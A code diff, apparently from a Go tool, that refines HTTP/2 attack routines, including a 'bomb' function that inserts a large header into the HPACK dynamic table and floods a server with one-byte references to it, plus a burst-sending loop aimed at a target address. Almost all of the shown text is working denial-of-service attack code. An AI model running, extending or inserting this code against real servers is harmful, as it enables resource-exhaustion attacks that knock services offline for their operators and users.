@@ -8,6 +8,7 @@ import (
 	"time"
 
 	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
 )
 
 // attack is what an attacker sends.
@@ -85,6 +86,7 @@ func request(path string) func(*http2.Framer, uint32) { return headers(block(met
 func headers(block []byte) func(*http2.Framer, uint32) {
 	p := http2.HeadersFrameParam{BlockFragment: block, EndStream: true, EndHeaders: true}
 	return func(f *http2.Framer, id uint32) {
+		p := p // attackers run side by side
 		p.StreamID = id
 		_ = f.WriteHeaders(p)
 	}
@@ -100,16 +102,12 @@ func data(text string) func(*http2.Framer, uint32) {
 
 // bomb puts a field into the table, and sends requests whose heads have references to it, of one byte each.
 func bomb(name string, value, references int) attack {
-	field := append(block(methodGet, "/small"), "\x40"+string(rune(len(name)))+name...)
-	if value < 127 {
-		field = append(field, byte(value))
-	} else { // RFC 7541 5.1
-		field = append(field, 127, byte((value-127)%128+128), byte((value-127)/128))
-	}
-	field = append(field, strings.Repeat("v", value)...)
+	var field bytes.Buffer
+	field.Write(block(methodGet, "/small"))
+	_ = hpack.NewEncoder(&field).WriteField(hpack.HeaderField{Name: name, Value: strings.Repeat("v", value)}) // a Buffer takes it
 	return attack{
 		settings: closed,
-		before:   func(f *http2.Framer) { headers(field)(f, 1) },
+		before:   func(f *http2.Framer) { headers(field.Bytes())(f, 1) },
 		each:     headers(append(block(methodGet, "/small"), strings.Repeat("\xbe", references)...)),
 	}
 }
@@ -150,11 +148,9 @@ func (a attack) run(addr string, rate int) {
 			a.before(f)
 		}
 		for id, going := uint32(3), true; going; {
-			if a.once {
+			for more := a.each != nil; more; id += 2 {
 				a.each(f, id)
-			}
-			for ; !a.once && a.each != nil && out.Len() < burst; id += 2 {
-				a.each(f, id)
+				more = !a.once && out.Len() < burst
 			}
 			n, err := c.Write(out.Bytes())
 			out.Reset()
